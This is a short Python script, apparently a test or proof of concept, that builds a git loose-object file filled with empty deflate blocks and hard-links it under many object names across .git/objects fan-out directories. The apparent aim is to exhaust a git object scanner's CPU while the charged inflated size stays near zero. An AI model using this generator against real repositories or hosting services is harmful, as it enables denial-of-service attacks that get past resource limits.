# inside: one loose-object file of argv[1] MiB of EMPTY deflate blocks (inflates to nothing until the end), hard-linked
# under argv[2] object names across fan-outs (each name is checked, each read whole; only inflated bytes are charged)
import sys, os
mib, n = int(sys.argv[1]), int(sys.argv[2])
def bits(vals):
    acc = 0; k = 0; out = bytearray()
    for v, w in vals:
        acc |= v << k; k += w
        while k >= 8: out.append(acc & 255); acc >>= 8; k -= 8
    return bytes(out), acc, k
unit, _, _ = bits([(0,1),(1,2),(0,7)] * 4)   # 4 empty fixed blocks = 5 bytes
body = unit * ((mib << 20) // 5)
tail, acc, k = bits([(1,1),(1,2),(0,7)])     # final empty block
tail += bytes([acc]) if k else b""
data = b"\x78\x01" + body + tail
os.makedirs(".git/objects/00", exist_ok=True)
first = ".git/objects/00/" + "0" * 38
open(first, "wb").write(data)
for i in range(1, n):
    d = ".git/objects/%02x" % (i % 256); os.makedirs(d, exist_ok=True)
    os.link(first, d + "/" + ("%038x" % i))
print("file bytes", len(data), "names", n)
